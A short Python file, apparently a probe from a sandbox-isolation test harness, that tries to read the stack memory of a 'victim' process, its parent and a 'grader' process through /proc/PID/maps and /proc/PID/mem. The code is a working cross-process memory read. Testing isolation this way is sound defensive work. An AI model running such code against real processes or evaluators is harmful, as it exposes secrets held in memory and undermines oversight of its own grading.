"""Reads another process's memory through /proc/PID/mem."""
import os


def attack(target):
    for pid in (target["victim"], os.getppid(), target["grader"]):
        try:
            with open(f"/proc/{pid}/maps") as maps:
                stack = next(line for line in maps if "[stack]" in line)
            first, last = (int(part, 16) for part in stack.split()[0].split("-"))
            with open(f"/proc/{pid}/mem", "rb", 0) as memory:
                memory.seek(last - 4096)
                if memory.read(4096):
                    return f"read the memory of {pid}"
        except (OSError, StopIteration):
            pass
    return ""
